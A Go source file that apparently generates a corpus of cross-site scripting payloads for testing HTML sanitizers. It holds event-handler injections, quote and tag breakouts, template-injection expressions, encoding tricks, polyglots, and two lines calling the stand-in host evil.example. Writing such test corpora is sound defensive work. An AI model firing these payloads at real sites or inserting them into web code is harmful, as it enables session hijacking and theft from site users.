package payload

// handlers run by an event, each on an element on which the event comes, in the
// forms in which an attribute can be written.
func handlers() (list []string) {
	for _, h := range []struct{ open, event, rest string }{
		{"img src=x", "onerror", ""},
		{"img src=/favicon.ico", "onload", ""},
		{"audio src=x", "onerror", ""},
		{"video src=x", "onerror", "</video>"},
		{"video", "onloadstart", "<source src=x></video>"},
		{"svg", "onload", "</svg>"},
		{"body", "onload", ""},
		{"details open", "ontoggle", "<summary>x</summary></details>"},
		{"input autofocus", "onfocus", ""},
		{"marquee", "onstart", "x</marquee>"},
		{"div contenteditable autofocus tabindex=0", "onfocusin", "x</div>"},
		{"div style=animation-name:x", "onanimationstart", "x</div>"},
		{"div", "onmouseover", "x</div>"},
		{"div", "onpointerrawupdate", "x</div>"},
		{"a href=/", "onclick", "x</a>"},
		{"x", "onwheel", "x</x>"},
	} {
		list = append(
			list,
			"<"+h.open+" "+h.event+"=RUN>"+h.rest,
			"<"+h.open+"\n"+h.event+"\t=\f'RUN'>"+h.rest,
			"<"+h.open+" /"+h.event+`="&#97;lert(__xss=1)"/>`+h.rest,
		)
	}
	return append(list, lines(handlerForms)...)
}

// handlerForms are well-formed ones, and such as break attributes where naive readers do not
// see it.
const handlerForms = `
<b onclick="RUN">x</b>
<a href="/x" onclick="RUN">x</a>
<img src="/x.png" alt="" onerror='RUN'>
<details ontoggle="RUN" open=""><summary>x</summary></details>
<svg viewBox="0 0 9 9" onload="RUN"><text>x</text></svg>
<svg viewBox="0 0 9 9"><g onclick="RUN"><text>x</text></g></svg>
<p onfuturevent="RUN">x</p>
<img src=x onerror=RUN
<img src=x OnErRoR=RUN>
<img src=x onerror="RUN"
<img """><script>RUN</script>">
<img src="x"onerror=RUN>
<img src='x'onerror=RUN//>
<img src=x x="'"onerror=RUN x='">
<img src=x:x onerror=&#x61;&#x6c;ert(__xss=1)>
<img src=x onerror=window['al'+'ert'](__xss=1)>
<img src=x onerror=setTimeout('RUN')>
<img src=x onerror=location='javascript:RUN'>
<img/src/onerror=RUN>
<img ` + "`" + ` src=x onerror=RUN ` + "`" + `>
<a onmouseover=RUN href=#>x
<a href=x onclick="RUN" onclick="">x</a>
<img src=x =onerror=RUN>
<img src=x on&#101;rror=RUN>
<b/onclick=RUN>x
<b "onclick=RUN">x</b>
`

// waysOut leave a place by what ends it, and run something behind it.
func waysOut() (list []string) {
	outs := []string{
		`"`, `'`, "`", `">`, `'>`, `" `, `' `, `"/>`, `-->`, `]]>`, `</title>`, `</textarea>`, `</script>`, `</style>`,
		`</noscript>`, `</template>`, `</svg>`, `\"`, `\">`, `&quot;>`, `&#34;>`, `&#x22;>`, `%22>`, `\u0022>`, "\u00a0\">", "\t\">", "\n\">",
	}
	runs := []string{
		`<script>RUN</script>`, `<img src=x onerror=RUN>`, `<svg/onload=RUN>`, ` onmouseover=RUN x=`,
		` autofocus onfocus=RUN tabindex=0 x="`,
	}
	for _, out := range outs {
		for _, run := range runs {
			list = append(list, out+run)
		}
	}
	return list
}

const templates = `
{{RUN}}
{{ target.name }}
{{ proposition.accept_url }}
{{? x }}<script>RUN</script>{{/}}
{{constructor.constructor('RUN')()}}
{{$on.constructor('RUN')()}}
{{#with "s"}}{{/with}}
{{{RUN}}}
{%RUN%}
${RUN}
#{RUN}
<%=RUN%>
[[${RUN}]]
*{RUN}
@(RUN)
~{RUN}
<div ng-app ng-csp>{{RUN}}</div>
<div v-html="'<img src=x onerror=RUN>'"></div>
<x-a x-data x-init="RUN"></x-a>
<div hx-get="//evil.example/" hx-trigger=load></div>
<div data-bind="html: '<img src=x onerror=RUN>'"></div>
`

// scriptTexts break out of JSON and of strings in a script, where a page puts
// such a text.
const scriptTexts = `
</script><script>RUN</script>
</ScRiPt ><script>RUN</script>
<!--<script>
\u003c/script\u003e\u003cscript\u003eRUN
\x3cscript\x3eRUN\x3c/script\x3e
";RUN;//
';RUN;//
\";RUN;//
\';RUN;//
"-RUN-"
'-RUN-'
"}];RUN//
","x":"
\
\u0022,"x":1
*/RUN/*
//RUN
` + "`-RUN-`" + `
RUN
window.RUN
eval('RUN')
`

const entities = `
&lt;script&gt;RUN&lt;/script&gt;
&lt;img src=x onerror=RUN&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#0000060script&#0000062RUN
&#x3c;img src=x onerror=RUN&#x3e;
&lt script&gt RUN
&amp;lt;script&amp;gt;RUN
&amp;amp;lt;img src=x onerror=RUN&amp;amp;gt;
&quot; onmouseover=RUN x=&quot;
&apos; onmouseover=RUN x=&apos;
&#39; onmouseover=RUN x=&#39;
&#0;&#x80;&#xD800;&#x110000;&#9999999999;
&lbrack;&lpar;&colon;&Tab;&NewLine;
&notit;&copy=1
&
&#
&#x
&amp
#60;script&#62;
lt;script&gt;
quot;>
`

// encodings hide markup from who reads bytes in another way.
func encodings() []string {
	return append(
		lines(encoded),
		"<\x00script>RUN</script>", "<scr\x00ipt>RUN</script>", "\x00<script>RUN</script>", "<img src=x \x00onerror=RUN>",
		"<img src=x onerror\x0b=RUN>", "<img\x0bsrc=x onerror=RUN>", "<img\x0csrc=x\x0conerror=RUN>", "\x1b$B<script>RUN</script>\x1b(B",
		"\ufeff<script>RUN</script>", "<script\u2028>RUN</script>", "<script>\u2028RUN\u2029</script>", "\u202e<script>RUN</script>\u202c",
		"\u2066<img src=x onerror=RUN>\u2069", "\u200b<script>\u200dRUN</script>", "\u0085<script>RUN</script>", "\u00adjavascript:RUN",
		"\u02bascript\u02ba onmouseover=RUN", "\uff02\uff1e\uff1cscript\uff1eRUN", "\u2039script\u203aRUN", "\u017fcript <\u017fcript>RUN</\u017fcript>",
		"<\u0131mg src=x onerror=RUN>", "<\u212ascript>RUN", "e\u0301<script>RUN</script>", "\U000e003cscript\U000e003eRUN", "\ufffd<script>RUN</script>",
		"\uffff<script>RUN</script>", "\r\n<script>RUN</script>\r", "\r\n\r\n<script>RUN</script>", "\x7f<script>RUN</script>", "\x08<script>RUN</script>",
		"\xc0\xbcscript\xc0\xbeRUN", "\xe0\x80\xbcscript\xe0\x80\xbe", "\xf0\x80\x80\xbcscript", "\xff<script>RUN</script>", "\xed\xa0\x80<script>RUN</script>",
		"\xed\xa0\x80\xed\xb0\xbc", "\xc2\"><script>RUN</script>", "\xe2\x80\"><script>RUN</script>", "\xf0\x9f\"><script>RUN</script>", "\xfe\xff\x00<\x00s\x00c",
	)
}

const encoded = `
+ADw-script+AD4-RUN+ADw-/script+AD4-
+/v8-+ADw-script+AD4-RUN
%3Cscript%3ERUN%3C/script%3E
%253Cscript%253ERUN%253C/script%253E
%u003Cscript%u003ERUN
%C0%BCscript%C0%BERUN
%00<script>RUN</script>
%0d%0aSet-Cookie:x=1%0d%0a%0d%0a<script>RUN</script>
\074script\076RUN
＜script＞RUN＜/script＞
&#xff1c;script&#xff1e;RUN
PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
`

// slots would make a part of the page that the next edge fills.
const slots = `
<div data-offer-space="hero">x</div>
<div id="i_hero">x</div>
<!-- offer:hero --><b>x</b><!-- /offer -->
" data-offer-space="hero
" id="i_hero
<!-- /offer -->
--><!-- /offer --><script>RUN</script><!--
" data-offer-seen="/.proffer/event?seen=x
" data-offer-accept="//evil.example/?x
<script src="/.proffer/offers.js"></script>
`

const polyglots = `
jaVasCript:/*-/*` + "`/*\\`" + `/*'/*"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=RUN//>\x3e
"'--></noscript></noembed></template></option></select><script>RUN</script>
javascript:"/*'/*` + "`" + `/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=RUN//>
'">><marquee><img src=x onerror=RUN></marquee>"></plaintext\></|\><plaintext/onmouseover=RUN>
" onclick=RUN//<button ' onclick=RUN//> */ RUN//
';RUN//\';RUN//";RUN//\";RUN//--></script>">'><script>RUN</script>
]]>*/</script></style></title>--><svg onload=RUN>
`
